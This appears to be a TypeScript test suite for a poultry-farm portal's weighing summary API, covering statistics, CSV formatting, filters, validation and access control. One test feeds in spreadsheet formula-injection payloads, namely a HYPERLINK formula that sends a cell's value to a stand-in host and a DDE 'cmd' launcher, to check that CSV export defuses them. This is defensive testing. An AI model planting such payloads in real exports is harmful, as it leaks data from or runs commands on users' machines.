import { computeStats, type Estatisticas, type ResumoResponse } from '@portal/shared';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { createAccount, type TestAccount } from '../../test/factories.js';
import { createNucleo, grantAccess } from '../../test/factories/farms.js';
import { createLote } from '../../test/factories/flocks.js';
import { createPesagens, generatedWeighings, gramsToDecigrams, type PesagemInput } from '../../test/factories/weighings.js';
import { describeEachDialect, type TestPortal } from '../../test/harness.js';

const expectedStats = (rows: readonly PesagemInput[]): Estatisticas =>
  computeStats(
    rows.map((row) => gramsToDecigrams(row.peso)),
    rows.map((row) => row.score ?? null),
  );

const resumo = (portal: TestPortal, account: TestAccount, query: string) => portal.request<ResumoResponse>('GET', `/api/v2/resumo?${query}`, { token: account.token });

describeEachDialect('summary (v2/resumo)', (portal) => {
  it('answers one line per flock, house, side and box over the period, equal to an independent computation', async () => {
    const account = await createAccount(portal());
    const farm = await createNucleo(portal(), account, { nome: 'Granja Norte' });
    const lote = await createLote(portal(), account, farm, { codigo: 'L-3' });
    const rows = generatedWeighings(31, 2000);
    await createPesagens(portal(), account, { nucleo: farm, lote, rows });

    // Dates as dd/mm/yyyy or yyyy-mm-dd; json is the default.
    for (const query of ['inicio=01/11/2026&fim=30/11/2026&tipo=json', 'inicio=2026-11-01&fim=2026-11-30']) {
      const answer = await resumo(portal(), account, query);
      expect(answer.status).toBe(200);
      expect(answer.body.inicio).toBe('2026-11-01');
      expect(answer.body.fim).toBe('2026-11-30');
      const keys = answer.body.linhas.map((linha) => `${linha.aviario}|${linha.lado}|${linha.box}`);
      expect(keys).toEqual(['Aviário 1', 'Aviário 2', 'Aviário 3'].flatMap((aviario) => ['1', '2'].flatMap((lado) => ['1', '2', '3', '10'].map((box) => `${aviario}|${lado}|${box}`))));
      for (const linha of answer.body.linhas) {
        const own = rows.filter((row) => row.aviario === linha.aviario && row.lado === linha.lado && row.box === linha.box);
        const days = [...new Set(own.map((row) => row.data!))].sort();
        expect(linha).toEqual({
          nome_nucleo: 'Granja Norte',
          lote: 'L-3',
          aviario: linha.aviario,
          lado: linha.lado,
          box: linha.box,
          primeira: days[0],
          ultima: days[days.length - 1],
          dias: days.length,
          stats: expectedStats(own),
        });
      }
    }
    // A narrower period reads only its days.
    const week = await resumo(portal(), account, 'inicio=2026-11-09&fim=2026-11-09');
    const total = week.body.linhas.reduce((sum, linha) => sum + linha.stats.totalAves, 0);
    expect(total).toBe(rows.filter((row) => row.data === '2026-11-09').length);
    expect(new Set(week.body.linhas.map((linha) => linha.primeira))).toEqual(new Set(['2026-11-09']));
  });

  it('answers a CSV file in the reader’s separator and number format (decimal comma in Portuguese, point in English)', async () => {
    const account = await createAccount(portal());
    const farm = await createNucleo(portal(), account, { nome: 'Granja; Sul' });
    const lote = await createLote(portal(), account, farm, { codigo: 'L-1' });
    await createPesagens(portal(), account, { nucleo: farm, lote, rows: [{ peso: 1234.5, data: '2026-11-02', aviario: 'Aviário 1', lado: '1', box: '2' }] });
    const header = 'nome_nucleo;lote;aviario;lado;box;primeira;ultima;dias;totalAves;pesoTotal;pesoMedio;desvioP;cv;uni;corteCima;corteBaixo;qtdUniforme;qtdAcima;qtdAbaixo;perAcima;perAbaixo;maiorPeso;menorPeso';

    const pt = await portal().request<string>('GET', '/api/v2/resumo?inicio=01/11/2026&fim=30/11/2026&tipo=csv', { token: account.token });
    expect(pt.status).toBe(200);
    expect(pt.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(pt.headers.get('content-disposition')).toBe('attachment; filename="resumo_2026-11-01_2026-11-30.csv"');
    // One bird of 1234.5 g: cut-offs 1357.95 → 1358.0 and 1111.05 → 1111.1; the farm's name holds the separator, so it is quoted.
    expect(pt.body).toBe(
      `${header}\r\n"Granja; Sul";L-1;Aviário 1;1;2;2026-11-02;2026-11-02;1;1;1234,5;1234,5;0,0;0,00;100,00;1358,0;1111,1;1;0;0;0,00;0,00;1234,5;1234,5\r\n`,
    );

    // The file starts with a UTF-8 byte order mark (fetch's text() hides it), so spreadsheets read the accents.
    const raw = await fetch(`${portal().baseUrl}/api/v2/resumo?inicio=2026-11-01&fim=2026-11-30&tipo=csv`, { headers: { authorization: `Bearer ${account.token}` } });
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    await portal().request('POST', '/api/updateuser', { token: account.token, body: { separador_csv: ',', reports_language: 'en' } });
    const en = await portal().request<string>('GET', '/api/v2/resumo?inicio=2026-11-01&fim=2026-11-30&tipo=csv', { token: account.token });
    expect(en.body).toBe(
      `${header.replaceAll(';', ',')}\r\nGranja; Sul,L-1,Aviário 1,1,2,2026-11-02,2026-11-02,1,1,1234.5,1234.5,0.0,0.00,100.00,1358.0,1111.1,1,0,0,0.00,0.00,1234.5,1234.5\r\n`,
    );

    // The user's number format wins over the reports language's: ',' in English, '.' in Portuguese.
    await portal().request('POST', '/api/updateuser', { token: account.token, body: { separador_csv: ';', separador_decimal: ',' } });
    const enComma = await portal().request<string>('GET', '/api/v2/resumo?inicio=2026-11-01&fim=2026-11-30&tipo=csv', { token: account.token });
    expect(enComma.body.split('\r\n')[1]).toBe('"Granja; Sul";L-1;Aviário 1;1;2;2026-11-02;2026-11-02;1;1;1234,5;1234,5;0,0;0,00;100,00;1358,0;1111,1;1;0;0;0,00;0,00;1234,5;1234,5');
    await portal().request('POST', '/api/updateuser', { token: account.token, body: { separador_decimal: '.', reports_language: 'pt' } });
    const ptPoint = await portal().request<string>('GET', '/api/v2/resumo?inicio=2026-11-01&fim=2026-11-30&tipo=csv', { token: account.token });
    expect(ptPoint.body.split('\r\n')[1]).toBe('"Granja; Sul";L-1;Aviário 1;1;2;2026-11-02;2026-11-02;1;1;1234.5;1234.5;0.0;0.00;100.00;1358.0;1111.1;1;0;0;0.00;0.00;1234.5;1234.5');
    await portal().request('POST', '/api/updateuser', { token: account.token, body: { separador_csv: ',', separador_decimal: null, reports_language: 'en' } });

    // An empty period still answers the header line; a house named like a formula is defused.
    await createPesagens(portal(), account, { nucleo: farm, lote, rows: [{ peso: 1000, data: '2026-12-01', aviario: '=HYPERLINK("x")' }] });
    const formula = await portal().request<string>('GET', '/api/v2/resumo?inicio=2026-12-01&fim=2026-12-01&tipo=csv', { token: account.token });
    expect(formula.body.split('\r\n')[1]).toContain(`,"'=HYPERLINK(""x"")",`);
    const nothing = await portal().request<string>('GET', '/api/v2/resumo?inicio=2025-01-01&fim=2025-01-02&tipo=csv', { token: account.token });
    expect(nothing.body).toBe(`${header.replaceAll(';', ',')}\r\n`);
  });

  it('defuses farm, flock, house, side and box names written like formulas, in every separator, and keeps negative-looking numbers', async () => {
    const account = await createAccount(portal());
    const farm = await createNucleo(portal(), account, { nome: '=HYPERLINK("http://x.test/?"&A1;"ver")' });
    const lote = await createLote(portal(), account, farm, { codigo: "+cmd|' /C calc'!A0" });
    await createPesagens(portal(), account, { nucleo: farm, lote, rows: [{ peso: 1000, data: '2026-11-03', aviario: '@SUM(1+1)', lado: '-2+3', box: '-1' }] });
    for (const separador of [';', ',', '\t', '|']) {
      await portal().request('POST', '/api/updateuser', { token: account.token, body: { separador_csv: separador, reports_language: 'pt' } });
      const answer = await portal().request<string>('GET', '/api/v2/resumo?inicio=2026-11-01&fim=2026-11-30&tipo=csv', { token: account.token });
      expect(answer.status, answer.body).toBe(200);
      const [, line] = parse(answer.body, { delimiter: separador, bom: true }) as string[][];
      expect(line!.slice(0, 5), separador).toEqual(['\'=HYPERLINK("http://x.test/?"&A1;"ver")', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", '-1']);
      expect(line!.slice(8, 11), separador).toEqual(['1', '1000,0', '1000,0']);
    }
  });

  it("honours the weight report's farm, flock, house and sex filters and leaves hatchery lots out, in JSON and CSV", async () => {
    const account = await createAccount(portal());
    const north = await createNucleo(portal(), account, { nome: 'Granja Norte' });
    const south = await createNucleo(portal(), account, { nome: 'Granja Sul' });
    const hatchery = await createNucleo(portal(), account, { nome: 'Incubatório Central', tipo: 'incubatorio' });
    const l1 = await createLote(portal(), account, north, { codigo: 'N-1' });
    const l2 = await createLote(portal(), account, north, { codigo: 'N-2' });
    const l3 = await createLote(portal(), account, south, { codigo: 'S-1' });
    const hatch = await createLote(portal(), account, hatchery, { codigo: 'Eclosão 7' });
    const row = (peso: number, aviario: string, sexo: string): PesagemInput => ({ peso, data: '2026-11-05', aviario, lado: '1', box: '1', sexo });
    await createPesagens(portal(), account, { nucleo: north, lote: l1, rows: [row(1000, 'Aviário 1', 'M'), row(1100, 'Aviário 1', 'F'), row(1200, 'Aviário 2', 'M')] });
    await createPesagens(portal(), account, { nucleo: north, lote: l2, rows: [row(2000, 'Aviário 1', 'M')] });
    await createPesagens(portal(), account, { nucleo: south, lote: l3, rows: [row(3000, 'Aviário 1', 'F')] });
    await createPesagens(portal(), account, { nucleo: hatchery, lote: hatch, rows: [row(55, 'Incubadora 1', 'Cobb'), row(56, 'Incubadora 1', 'Cobb')] });
    const period = 'inicio=2026-11-01&fim=2026-11-30';
    const lines = async (filters: string) => {
      const answer = await resumo(portal(), account, `${period}${filters}`);
      expect(answer.status, filters).toBe(200);
      return answer.body.linhas.map((linha) => `${linha.nome_nucleo}|${linha.lote}|${linha.aviario}|${linha.stats.totalAves}`);
    };

    // No filter: every farm's flocks, never the hatchery's.
    expect(await lines('')).toEqual(['Granja Norte|N-1|Aviário 1|2', 'Granja Norte|N-1|Aviário 2|1', 'Granja Norte|N-2|Aviário 1|1', 'Granja Sul|S-1|Aviário 1|1']);
    expect(await lines(`&nucleo_id=${north.id}`)).toEqual(['Granja Norte|N-1|Aviário 1|2', 'Granja Norte|N-1|Aviário 2|1', 'Granja Norte|N-2|Aviário 1|1']);
    expect(await lines(`&nucleo_id=${north.id}&lote_id=${l1.id}`)).toEqual(['Granja Norte|N-1|Aviário 1|2', 'Granja Norte|N-1|Aviário 2|1']);
    expect(await lines(`&lote_id=${l1.id}&aviario=${encodeURIComponent('Aviário 1')}&sexo=F`)).toEqual(['Granja Norte|N-1|Aviário 1|1']);
    // A flock of another farm than the one named: nothing, as in the weight report.
    expect(await lines(`&nucleo_id=${south.id}&lote_id=${l1.id}`)).toEqual([]);
    // The hatchery named as the farm: not a farm of this summary.
    expect(await lines(`&nucleo_id=${hatchery.id}`)).toEqual([]);

    // The CSV file follows the same filters.
    const csv = await portal().request<string>('GET', `/api/v2/resumo?${period}&tipo=csv&nucleo_id=${north.id}&lote_id=${l2.id}`, { token: account.token });
    expect(csv.status).toBe(200);
    const [, ...csvLines] = csv.body.trim().split('\r\n');
    expect(csvLines.map((line) => line.split(';').slice(0, 3).join('|'))).toEqual(['Granja Norte|N-2|Aviário 1']);
    const everything = await portal().request<string>('GET', `/api/v2/resumo?${period}&tipo=csv`, { token: account.token });
    expect(everything.body).not.toContain('Incubat');
  });

  it("refuses another owner's or an unknown farm or flock as a filter, and bad filter values", async () => {
    const owner = await createAccount(portal());
    const stranger = await createAccount(portal());
    const farm = await createNucleo(portal(), owner);
    const lote = await createLote(portal(), owner, farm);
    const period = 'inicio=2026-11-01&fim=2026-11-30';
    expect((await resumo(portal(), stranger, `${period}&nucleo_id=${farm.id}`)).status).toBe(404);
    expect((await resumo(portal(), stranger, `${period}&lote_id=${lote.id}`)).status).toBe(404);
    expect((await resumo(portal(), owner, `${period}&nucleo_id=999999999`)).status).toBe(404);
    for (const [query, field] of [['&nucleo_id=abc', 'nucleo_id'], ['&lote_id=-1', 'lote_id'], [`&aviario=${'x'.repeat(41)}`, 'aviario']] as const) {
      const answer = await resumo(portal(), owner, `${period}${query}`);
      expect(answer.status, query).toBe(400);
      expect((answer.body as unknown as { errors: Array<{ field: string }> }).errors.map((error) => error.field)).toContain(field);
    }
  });

  it('refuses bad dates, a reversed or too long period and an unknown type with a field code', async () => {
    const account = await createAccount(portal());
    const refused = async (query: string, field: string, code: string) => {
      const answer = await resumo(portal(), account, query);
      expect(answer.status, query).toBe(400);
      expect(answer.body).toMatchObject({ code: 'VALIDATION_FAILED' });
      expect((answer.body as unknown as { errors: unknown[] }).errors).toContainEqual(expect.objectContaining({ field, code }));
    };
    await refused('inicio=31/02/2026&fim=2026-03-01', 'inicio', 'FIELD_INVALID');
    await refused('inicio=2026-11-01&fim=2026/11/30', 'fim', 'FIELD_INVALID');
    await refused('inicio=2026-11-30&fim=01/11/2026', 'fim', 'DATE_RANGE_INVALID');
    await refused('inicio=01/01/2016&fim=31/12/2026', 'fim', 'FIELD_OUT_OF_RANGE');
    await refused('inicio=2026-11-01&fim=2026-11-30&tipo=xml', 'tipo', 'FIELD_INVALID');
    expect((await resumo(portal(), account, 'fim=2026-11-30')).status).toBe(400);
  });

  it("refuses another owner's data and limits a farm grant to its farms", async () => {
    const owner = await createAccount(portal());
    const stranger = await createAccount(portal());
    const reader = await createAccount(portal());
    const farmA = await createNucleo(portal(), owner, { nome: 'A' });
    const farmB = await createNucleo(portal(), owner, { nome: 'B' });
    await createPesagens(portal(), owner, { nucleo: farmA, rows: generatedWeighings(41, 50) });
    await createPesagens(portal(), owner, { nucleo: farmB, rows: generatedWeighings(42, 50) });
    await grantAccess(portal(), owner, reader, 'leitura', [farmB.id]);
    const query = `inicio=2026-11-01&fim=2026-11-30&prop=${owner.user.id}`;
    expect((await resumo(portal(), stranger, query)).status).toBe(404);
    expect((await resumo(portal(), stranger, 'inicio=2026-11-01&fim=2026-11-30')).body.linhas).toEqual([]);
    const limited = await resumo(portal(), reader, query);
    expect(limited.status).toBe(200);
    expect(new Set(limited.body.linhas.map((linha) => linha.nome_nucleo))).toEqual(new Set(['B']));
    expect(limited.body.linhas.reduce((sum, linha) => sum + linha.stats.totalAves, 0)).toBe(50);
  });
});
